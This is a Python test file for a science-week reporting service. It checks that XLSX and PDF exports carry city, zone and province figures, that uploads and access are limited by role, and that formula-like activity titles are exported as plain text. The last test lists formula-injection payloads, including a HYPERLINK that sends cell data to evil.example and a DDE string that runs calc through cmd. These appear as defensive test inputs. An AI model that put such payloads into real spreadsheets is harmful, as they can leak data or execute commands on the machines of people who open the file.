"""Exports open and carry the projections' numbers: XLSX (openpyxl) and PDF (text extracted with pypdf)."""

import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import segno
from openpyxl import load_workbook
from pypdf import PdfReader

from shared.contracts import registration as reg
from tests.reporting import scenario
from tests.reporting.conftest import publish, settled


def sheet_rows(body: bytes, title: str) -> list[tuple[Any, ...]]:
    book = load_workbook(io.BytesIO(body), read_only=True)
    return [tuple(row) for row in book[title].iter_rows(values_only=True)]


def pdf_text(body: bytes) -> str:
    words = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages).split()
    return " ".join(words) + " "  # table cells come out on lines of their own


def png() -> bytes:
    out = io.BytesIO()
    segno.make("sciweek").save(out, kind="png", scale=8)
    return out.getvalue()


async def test_xlsx_and_pdf_exports_contain_the_numbers(reporting: Any, auth: Any, tmp_path: Path) -> None:
    admin, guilin = auth("admin"), auth("city", city=scenario.GUILIN)
    runtime, client = reporting
    runtime.clock.fixed = datetime(2020, 9, 1, tzinfo=UTC)  # a week before the cities' summaries are due
    events = scenario.all_events()
    await publish(runtime, events)
    await settled(runtime, len(events), len(events))

    workbook = await client.get("/api/v1/exports/dashboard.xlsx", headers=admin)
    assert workbook.status_code == 200
    header, *cities = sheet_rows(workbook.content, "城市 cities")
    row = dict(zip(header, next(c for c in cities if c[0] == scenario.GUILIN), strict=True))
    assert (
        row["完成走访 / visits completed"],
        row["有效预约 / bookings"],
        row["入场人数 / visitors checked in"],
    ) == (1, 2, 3)
    assert row["培训人数 / people trained"] == 6 and row["政策宣讲（举办）/ policy lectures held"] == 1
    zones = {z[0]: z for z in sheet_rows(workbook.content, "展区 zones")[1:]}
    assert zones[2][3] == 9.0 and zones[2][2] == 800
    province = dict(sheet_rows(workbook.content, "全省 province")[1:])
    assert province["申报展项 / exhibits submitted"] == 3
    assert len(sheet_rows(workbook.content, "活动 activities")) == 4
    header, *city_days = sheet_rows(workbook.content, "城市每日 city days")
    guilin_24 = dict(zip(header, next(r for r in city_days if r[:3:2] == (scenario.GUILIN, "2020-08-24")), strict=True))
    assert (guilin_24["完成走访 / visits completed"], guilin_24["入场人数 / visitors checked in"]) == (1, 3)
    assert len(city_days) == 14 * 7
    own = await client.get("/api/v1/exports/dashboard.xlsx", headers=guilin)
    assert [c[0] for c in sheet_rows(own.content, "城市 cities")[1:]] == [scenario.GUILIN]

    draft = await client.get(f"/api/v1/summaries/{scenario.GUILIN}", headers=guilin)
    narrative = {"narrative": "桂林市组织科技特派员深入乡村开展精准扶贫。\n第二段：开放日吸引市民参观。"}
    edit = {**guilin, "If-Match": draft.headers["etag"]}
    assert (await client.put(f"/api/v1/summaries/{scenario.GUILIN}", json=narrative, headers=edit)).status_code == 204
    upload = {"file": ("photo.png", png(), "image/png")}
    stored = await client.put(f"/api/v1/summaries/{scenario.GUILIN}/pictures/photo-0001", files=upload, headers=guilin)
    assert stored.status_code == 201, stored.text
    text_file = {"file": ("photo.png", b"not a picture at all", "image/png")}
    refused = await client.put(
        f"/api/v1/summaries/{scenario.GUILIN}/pictures/photo-0002", files=text_file, headers=guilin
    )
    assert refused.status_code == 415 and refused.json()["code"] == "unsupported_media_type"

    pdf = await client.get(f"/api/v1/exports/summaries/{scenario.GUILIN}.pdf", headers=guilin)
    assert pdf.headers["content-type"] == "application/pdf"
    text = pdf_text(pdf.content)
    assert "桂林市工作总结" in text and "桂林市组织科技特派员深入乡村开展精准扶贫。 第二段" in text
    assert "完成走访 / visits completed 1 " in text and "入场人数 / visitors checked in 3 " in text
    assert sum(len(page.images) for page in PdfReader(io.BytesIO(pdf.content)).pages) == 1
    (tmp_path / "city.pdf").write_bytes(pdf.content)  # for `pdftoppm -png` and a look
    other = await client.get(f"/api/v1/exports/summaries/{scenario.NANNING}.pdf", headers=guilin)
    assert other.status_code == 404

    provincial = await client.get("/api/v1/exports/summaries/province.pdf", headers=admin)
    text = pdf_text(provincial.content)
    assert "全区工作总结" in text and "完成走访 / visits completed 2 " in text
    assert "南宁市总结未提交" in text and "桂林市（未到期 / pending）· 完成走访 1 " in text
    assert "有关单位总结" in text and "广西大学（未到期 / pending）· 入选展项 2 " in text
    assert (await client.get("/api/v1/exports/summaries/province.pdf", headers=guilin)).status_code == 403

    unit = await client.get("/api/v1/exports/summaries/gxu.pdf", headers=auth("unit", org="gxu"))
    text = pdf_text(unit.content)
    assert "广西大学工作总结" in text and "入选展项 / exhibits accepted 2 " in text


async def test_text_that_looks_like_a_formula_is_exported_as_text(reporting: Any, auth: Any) -> None:
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "科普\x07讲座",  # a control character XLSX cannot hold
    ]
    events = [
        scenario.event(
            "registration.activity.scheduled.v1",
            reg.ActivityScheduled(
                activity_id=f"hostile-{i}",
                city_code=scenario.GUILIN,
                activity_type="science_night",
                title=title,
                date=scenario.DAY,
                org_id=scenario.ORGANISER,
            ),
        )
        for i, title in enumerate(titles)
    ]
    runtime, client = reporting
    await publish(runtime, events)
    await settled(runtime, len(events), len(events))
    workbook = await client.get("/api/v1/exports/dashboard.xlsx", headers=auth("admin"))
    assert workbook.status_code == 200, workbook.text
    sheet = load_workbook(io.BytesIO(workbook.content))["活动 activities"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("名称 / title")] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in cells} == {"s"}, [(c.value, c.data_type) for c in cells]
    assert all(c.quotePrefix for c in cells if c.value != "科普讲座")
    # the text itself is kept (an XML reader gives a CR back as a line feed)
    assert sorted(str(c.value) for c in cells) == sorted(t.replace("\r", "\n").replace("\x07", "") for t in titles)
